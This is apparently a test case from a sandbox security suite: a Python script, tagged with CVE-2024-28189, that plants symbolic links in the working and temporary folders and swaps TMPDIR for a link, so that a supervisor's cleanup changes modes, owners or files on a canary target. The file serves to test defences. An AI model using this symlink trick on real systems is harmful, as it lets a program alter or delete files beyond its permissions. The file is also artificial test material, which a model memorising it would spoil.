# /// attack
# guarantee = "filesystem_write"
# summary = "Leaves symbolic links where its supervisor will change modes and owners when it tidies up."
# reference = "CVE-2024-28189"
# success = "a supervisor that hands the program's files on changes the canary's mode"
# stage = ["canary"]
# observe = ["changed"]
# control = { success = "status 0", collector = "chmod" }
# refusal = { default = "verdict completed" }
# ///

import os

folder, canary = os.getcwd(), os.environ["ATTACK_CANARY"]
for place in {folder, os.environ.get("TMPDIR", ".")}:
    for name, target in (("answer", canary), ("folder", os.path.dirname(canary))):
        try:
            os.symlink(target, os.path.join(place, name))
        except OSError:
            continue
# The folder itself, too: who removes it by its name removes what the link leads to.
try:
    os.rename(os.environ["TMPDIR"], os.environ["TMPDIR"] + "-was")
    os.symlink(os.path.dirname(canary), os.environ["TMPDIR"])
except (OSError, KeyError):
    pass
os._exit(0)
